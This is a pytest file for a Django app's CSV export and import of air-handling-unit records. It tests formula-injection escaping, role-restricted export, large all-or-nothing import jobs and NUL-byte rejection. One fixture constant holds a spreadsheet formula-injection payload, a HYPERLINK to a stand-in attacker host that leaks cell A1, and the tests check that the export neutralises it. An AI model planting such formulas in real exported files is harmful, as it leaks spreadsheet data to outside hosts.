"""Registry CSV as a supervisor uses it over the API: a file a spreadsheet opens safely, big imports as jobs.

Scenarios: an exported cell beginning with ``=``, ``+``, ``-`` or ``@`` must not run as a
formula when the file is opened; only supervisors and admins export; the file carries a
byte-order mark and CRLF line ends; a 20,000-row import runs as a background job whose
progress reaches its total, all or nothing; a NUL in a cell is refused with its line and column.
"""

import csv
import io
from types import SimpleNamespace

import pytest

from accounts.models import Role
from accounts.services import site_grant
from inventory.models import AHU, ImportJob
from tests.factories.accounts import OrganisationFactory, make_person
from tests.factories.inventory import BuildingFactory, SiteFactory, make_full_unit

HOSTILE_NOTE = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Open the manual")'


@pytest.fixture
def contractor(db):
    org = OrganisationFactory(slug="gale-air")
    site = SiteFactory(organisation=org, code="quayside", longitude=-5.25, preheat_threshold_c=-3.0)
    ahu = make_full_unit(building=BuildingFactory(site=site, code="hall"), tag="AHU-01", notes=HOSTILE_NOTE)
    people = {role: make_person(organisation=org, role=role) for role in Role.values}
    site_grant(user=people[Role.PROPERTY_MANAGER], site=site)
    return SimpleNamespace(org=org, site=site, ahu=ahu, people=people)


def _upload(text: str, name: str = "units.csv", bom: bool = False, crlf: bool = False) -> io.BytesIO:
    if crlf:
        text = text.replace("\n", "\r\n")
    data = io.BytesIO((("\ufeff" if bom else "") + text).encode())
    data.name = name
    return data


def test_exported_units_open_safely_in_a_spreadsheet_and_import_back(contractor, api_client):
    """The supervisor's export: BOM, CRLF, the formula note marked as text, negative numbers left as numbers;
    importing the very file back changes nothing."""
    people = contractor.people
    api_client.force_authenticate(people[Role.SUPERVISOR])
    response = api_client.get("/api/inventory/export/ahus/")
    assert response.status_code == 200
    raw = response.content
    assert raw.startswith("\ufeff".encode())
    text = raw.decode("utf-8-sig")
    assert text.count("\r\n") == 2 and "\n" not in text.replace("\r\n", "")
    row = next(csv.DictReader(io.StringIO(text, newline="")))
    assert row["notes"] == "'" + HOSTILE_NOTE.replace("|", "\\|")
    sites = api_client.get("/api/inventory/export/sites/").content.decode("utf-8-sig")
    site_row = next(csv.DictReader(io.StringIO(sites, newline="")))
    assert (site_row["longitude"], site_row["preheat_threshold_c"]) == ("-5.25", "-3")
    before = list(AHU.objects.values())
    back = api_client.post("/api/inventory/import/ahus/", {"file": _upload(text)}, format="multipart")
    assert back.status_code == 200, back.json()
    assert back.json()["updated"] == 1
    assert list(AHU.objects.values()) == before
    assert AHU.objects.get().notes == HOSTILE_NOTE


@pytest.mark.parametrize(
    "role,status",
    [(Role.SUPERVISOR, 200), (Role.ADMIN, 200), (Role.PROPERTY_MANAGER, 403), (Role.TECHNICIAN, 403)],
)
def test_only_supervisors_and_admins_export_the_registry(contractor, api_client, role, status):
    """Property managers (who read their sites' PDF records) and technicians are refused with a message."""
    people = contractor.people
    api_client.force_authenticate(people[role])
    for kind in ("sites", "ahus", "components"):
        response = api_client.get(f"/api/inventory/export/{kind}/")
        assert response.status_code == status
        if status == 403:
            assert "supervisor or admin" in response.json()["detail"]
            assert contractor.ahu.tag not in response.content.decode()


def test_export_needs_a_sign_in(contractor, api_client):
    """Nobody signed in gets no file."""
    assert api_client.get("/api/inventory/export/ahus/").status_code in (401, 403)


def _units_file(rows: int, bad_line: int | None = None) -> str:
    lines = ["site_code,building_code,building_name,tag,design_supply_airflow_m3s,design_min_oa_fraction,notes"]
    for n in range(rows):
        fraction = "1.5" if bad_line == n + 2 else "0.3"
        lines.append(f"quayside,b{n // 100},Block {n // 100},AHU-{n:05d},2.5,{fraction},imported")
    return "\n".join(lines) + "\n"


def test_twenty_thousand_units_import_as_a_job_all_or_nothing(
    contractor, api_client, django_capture_on_commit_callbacks
):
    """A 20,000-row file goes to a background job (202); with one bad row the job is refused naming that row
    and nothing is stored; the corrected file imports every row and its progress reaches the total."""
    people = contractor.people
    api_client.force_authenticate(people[Role.SUPERVISOR])
    with django_capture_on_commit_callbacks(execute=True):
        started = api_client.post(
            "/api/inventory/import/ahus/", {"file": _upload(_units_file(20_000, bad_line=12_345))}, format="multipart"
        )
    assert started.status_code == 202, started.json()
    job = api_client.get(started.json()["url"]).json()
    assert job["status"] == "refused"
    assert job["errors"] == [
        {"line": 12_345, "column": "design_min_oa_fraction", "value": "1.5", "reason": job["errors"][0]["reason"]}
    ]
    assert "1" in job["errors"][0]["reason"]
    assert AHU.objects.count() == 1

    with django_capture_on_commit_callbacks(execute=True):
        started = api_client.post(
            "/api/inventory/import/ahus/",
            {"file": _upload(_units_file(20_000), bom=True, crlf=True)},
            format="multipart",
        )
    assert started.status_code == 202
    assert started.json()["rows_total"] == 20_000
    job = api_client.get(started.json()["url"]).json()
    assert (job["status"], job["rows_done"], job["rows_total"], job["created"]) == ("done", 20_000, 20_000, 20_000)
    assert AHU.objects.filter(building__site=contractor.site).count() == 20_001
    assert ImportJob.objects.get(public_id=job["id"]).source == ""


def test_a_nul_in_a_cell_is_refused_with_its_line_and_column(contractor, api_client):
    """A NUL byte (or another control character) in a cell answers 400 naming line and column, never a 500."""
    people = contractor.people
    api_client.force_authenticate(people[Role.SUPERVISOR])
    text = _units_file(3).replace("AHU-00001", "AHU-0\x0001").replace("Block 0,AHU-00002", "Block\x07 0,AHU-00002")
    response = api_client.post("/api/inventory/import/ahus/", {"file": _upload(text)}, format="multipart")
    assert response.status_code == 400
    errors = {(e["line"], e["column"]): e for e in response.json()["errors"]}
    assert set(errors) == {(3, "tag"), (4, "building_name")}
    assert errors[(3, "tag")]["value"] == "AHU-0\\x0001"
    assert "NUL" in errors[(3, "tag")]["reason"]
    assert AHU.objects.count() == 1
